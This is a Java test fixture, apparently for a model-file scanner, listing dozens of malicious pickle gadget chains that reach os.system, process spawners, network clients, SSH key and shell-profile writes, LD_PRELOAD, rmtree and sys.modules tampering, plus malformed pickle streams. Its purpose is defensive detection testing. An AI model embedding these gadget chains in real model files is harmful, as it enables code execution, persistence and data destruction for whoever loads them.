package dev.bartizan.artifacts;

import static dev.bartizan.artifacts.ModelFormatsScanTest.utf8;
import static dev.bartizan.artifacts.PickleParts.appended;
import static dev.bartizan.artifacts.PickleParts.built;
import static dev.bartizan.artifacts.PickleParts.bytes;
import static dev.bartizan.artifacts.PickleParts.call;
import static dev.bartizan.artifacts.PickleParts.dict;
import static dev.bartizan.artifacts.PickleParts.list;
import static dev.bartizan.artifacts.PickleParts.made;
import static dev.bartizan.artifacts.PickleParts.name;
import static dev.bartizan.artifacts.PickleParts.none;
import static dev.bartizan.artifacts.PickleParts.number;
import static dev.bartizan.artifacts.PickleParts.pickle;
import static dev.bartizan.artifacts.PickleParts.text;
import static dev.bartizan.artifacts.PickleParts.tuple;

import dev.bartizan.artifacts.PickleParts.Part;
import java.util.ArrayList;
import java.util.List;

/// Pickles that reach a command, a file or the network by way of a library's own functions, by
/// states and by items set; and pickles that break where a careful machine must notice.
final class GadgetTrials {
    private static final Part COMMAND = text("touch marker");

    private final List<Trial> all = new ArrayList<>();

    static List<Trial> all() {
        GadgetTrials trials = new GadgetTrials();
        trials.resolvers();
        trials.runners();
        trials.libraries();
        trials.states();
        trials.oldNames();
        trials.broken();
        return trials.all;
    }

    private void malicious(String name, Part part) {
        all.add(Trial.malicious("gadget/" + name, "m.pkl", pickle(part)));
    }

    private void bad(String name, Part part) {
        all.add(Trial.bad("gadget/" + name, "m.pkl", pickle(part)));
    }

    /// What turns a text into a callable, which is then called.
    private void resolvers() {
        malicious("pydoc-locate", call(call("pydoc:locate", text("os.system")), COMMAND));
        malicious("resolve-name", call(call("pkgutil:resolve_name", text("os:system")), COMMAND));
        malicious(
                "mock-importer", call(call("unittest.mock:_importer", text("os.system")), COMMAND));
        malicious(
                "django-import-string",
                call(
                        call("django.utils.module_loading:import_string", text("os.system")),
                        COMMAND));
        malicious("hydra-method", call(call("hydra.utils:get_method", text("os.system")), COMMAND));
        bad(
                "logging-dictionary",
                call(
                        "logging.config:dictConfig",
                        dict(
                                text("version"),
                                number(1),
                                text("handlers"),
                                dict(
                                        text("h"),
                                        dict(
                                                text("()"),
                                                text("os.system"),
                                                text("command"),
                                                COMMAND)))));
        malicious(
                "vars-itemgetter",
                call(
                        call(
                                call("operator:itemgetter", text("system")),
                                call("builtins:vars", call("importlib:import_module", text("os")))),
                        COMMAND));
        bad(
                "formatter-get-field",
                call(
                        call("builtins:getattr", call("string:Formatter"), text("get_field")),
                        text("0.__init__.__globals__"),
                        tuple(name("logging:Logger")),
                        dict()));
        malicious("operator-call", call("_operator:call", name("os:system"), COMMAND));
        malicious("method-type", call(call("types:MethodType", name("os:system"), COMMAND)));
        malicious(
                "lru-cache",
                call(
                        call(
                                "functools:_lru_cache_wrapper",
                                name("os:system"),
                                none(),
                                number(0),
                                none()),
                        COMMAND));
    }

    /// What runs a callable that it is given.
    private void runners() {
        malicious("timer", call("threading:Timer", number(1), name("os:system"), tuple(COMMAND)));
        malicious(
                "pool-initializer",
                call("multiprocessing.pool:Pool", number(1), name("os:system"), tuple(COMMAND)));
        malicious("re-sub", call("re:sub", text("x"), name("os:system"), text("x")));
        malicious(
                "accumulate",
                call(
                        "builtins:list",
                        call("itertools:accumulate", list(COMMAND, COMMAND), name("os:system"))));
        malicious(
                "executor-submit",
                call(
                        call(
                                "builtins:getattr",
                                call("concurrent.futures.thread:ThreadPoolExecutor"),
                                text("submit")),
                        name("os:system"),
                        COMMAND));
        malicious(
                "numpy-apply",
                call(
                        "numpy.lib.shape_base:apply_along_axis",
                        name("os:system"),
                        number(0),
                        list(COMMAND)));
        malicious(
                "pandas-map",
                call(
                        call(
                                "builtins:getattr",
                                call("pandas.core.series:Series", list(COMMAND)),
                                text("map")),
                        name("os:system")));
        malicious("torch-run", call("torch.utils.collect_env:run", COMMAND));
        malicious(
                "loky-fork",
                call(
                        "joblib.externals.loky.backend.fork_exec:fork_exec",
                        list(text("sh"), text("-c"), COMMAND),
                        list()));
        malicious("posix-spawn", call("posix:posix_spawn", text("/bin/sh"), list(), dict()));
        malicious(
                "ipython-cell",
                call(
                        "IPython.core.interactiveshell:InteractiveShell.run_cell",
                        none(),
                        text("!id")));
        bad("pexpect", call("pexpect.run:run", COMMAND));
        bad("sh-command", call(call("sh:Command", text("sh")), text("-c"), COMMAND));
    }

    /// Loaders, downloaders and writers of libraries.
    private void libraries() {
        bad("numpy-library", call("numpy.ctypeslib:load_library", text("x.so"), text(".")));
        bad(
                "tensorflow-library",
                call("tensorflow.python.framework.load_library:load_op_library", text("x.so")));
        bad(
                "tensorflow-write",
                call(
                        "tensorflow.python.ops.gen_io_ops:write_file",
                        text("/tmp/a"),
                        text("marker")));
        bad("keras-load", call("keras.src.saving.saving_api:load_model", text("/tmp/m.keras")));
        bad("ray-loads", call("ray.cloudpickle:loads", bytes(utf8("x"))));
        bad("dill-session", call("dill.session:load_session", text("/tmp/s")));
        bad("mlflow-load", call("mlflow.pyfunc:load_model", text("models:/x/1")));
        bad("jsonpickle", call("jsonpickle.unpickler:decode", text("{}")));
        bad("datasets", call("datasets.load:load_dataset", text("a/b")));
        bad("requests", call("requests.api:get", text("http://n.example/?k=1")));
        bad("httpx", call("httpx:post", text("http://n.example/")));
        bad("paramiko", call("paramiko.client:SSHClient"));
        bad("save-text", call("numpy:savetxt", text("/root/.bashrc"), list(COMMAND)));
        bad(
                "open-for-writing",
                call("builtins:open", text("/root/.ssh/authorized_keys"), text("w")));
        bad(
                "path-write",
                call(
                        call(
                                "builtins:getattr",
                                call("pathlib:PosixPath", text("/root/.profile")),
                                text("write_text")),
                        COMMAND));
        bad("rmtree", call("shutil:rmtree", text("/srv/models")));
        bad("wandb-artifact", call("wandb.apis.public:Api.artifact", text("a/b:latest")));
        bad("evaluate-load", call("evaluate.loading:load", text("a/b")));
    }

    /// What a state or an item that is set changes.
    private void states() {
        malicious(
                "partial-state-swapped",
                call(
                        built(
                                call("functools:partial", name("builtins:len")),
                                tuple(name("os:system"), tuple(COMMAND), dict(), none()))));
        malicious(
                "slots-state",
                built(
                        name("collections:OrderedDict"),
                        tuple(none(), dict(text("__reduce_ex__"), name("os:system")))));
        malicious(
                "modules-item",
                set(
                        name("sys:modules"),
                        text("json"),
                        call("importlib:import_module", text("os"))));
        bad("environment-item", set(name("os:environ"), text("LD_PRELOAD"), text("/tmp/x.so")));
        bad("path-append", appended(name("sys:path"), text("/tmp/x")));
        bad("hook-state", built(name("sys:stdout"), dict(text("write"), name("os:system"))));
        malicious(
                "logger-handlers",
                built(
                        made("logging:Logger"),
                        dict(text("isEnabledFor"), call("os:popen", COMMAND))));
        malicious(
                "default-factory",
                call(
                        call(
                                "builtins:getattr",
                                call(
                                        "collections:defaultdict",
                                        call("functools:partial", name("os:system"), COMMAND)),
                                text("__missing__")),
                        text("k")));
    }

    private static Part set(Part object, Part key, Part value) {
        return pickle -> {
            object.write(pickle);
            key.write(pickle);
            value.write(pickle);
            pickle.op('s');
        };
    }

    /// Names of Python 2, which newer versions map to their own.
    private void oldNames() {
        for (String callable :
                List.of(
                        "__builtin__:execfile",
                        "__builtin__:apply",
                        "popen2:popen3",
                        "urllib2:urlopen",
                        "imp:load_source",
                        "thread:start_new_thread",
                        "cPickle:loads",
                        "os:popen4")) {
            all.add(
                    Trial.bad(
                            "gadget/old-" + callable.replace(':', '-'),
                            "m.pkl",
                            Pickles.protocol(0)
                                    .global(
                                            callable.substring(0, callable.indexOf(':')),
                                            callable.substring(callable.indexOf(':') + 1))
                                    .ops("(S'touch marker'\ntR.")
                                    .bytes()));
        }
    }

    /// Streams that no machine can run to their end.
    private void broken() {
        broken("get-unknown", Pickles.protocol(2).op('h').op(7).stop());
        broken("reduce-on-number", Pickles.protocol(2).op('K').op(1).op(')').op('R').stop());
        broken("mark-missing", Pickles.protocol(2).op('K').op(1).op('t').stop());
        broken("stack-empty", Pickles.protocol(2).stop());
        broken("two-left", Pickles.protocol(2).ops("NN").bytes());
        broken("length-beyond-end", Pickles.protocol(3).op('B').int32(9999).raw((byte) 1).bytes());
        broken("length-negative", Pickles.protocol(2).op('T').int32(-5).stop());
        broken("long-negative", Pickles.protocol(2).op(0x8b).int32(-1).stop());
        broken("opcode-unknown", Pickles.protocol(4).op(0xff).stop());
        broken(
                "text-not-utf8",
                Pickles.protocol(4).op(0x8c).op(2).raw((byte) 0xc3, (byte) 0x28).stop());
        broken("setitems-odd", Pickles.protocol(2).ops("}(K").op(1).ops("u").stop());
        broken("append-to-number", Pickles.protocol(2).op('K').op(1).op('K').op(2).op('a').stop());
        broken("integer-no-digits", Pickles.protocol(0).ops("Iabc\n.").bytes());
        broken("global-without-end", Pickles.protocol(0).ops("ccollections").bytes());
        broken("frame-beyond-end", Pickles.protocol(4).op(0x95).int64(1 << 30).ops("N").stop());
        broken("bytes8-huge", Pickles.protocol(4).op(0x8e).int64(Long.MAX_VALUE).stop());
        broken("buffer-without-one", Pickles.protocol(5).op(0x98).stop());
    }

    private void broken(String name, byte[] bytes) {
        all.add(Trial.notClean("gadget/broken-" + name, "m.pkl", bytes));
    }
}
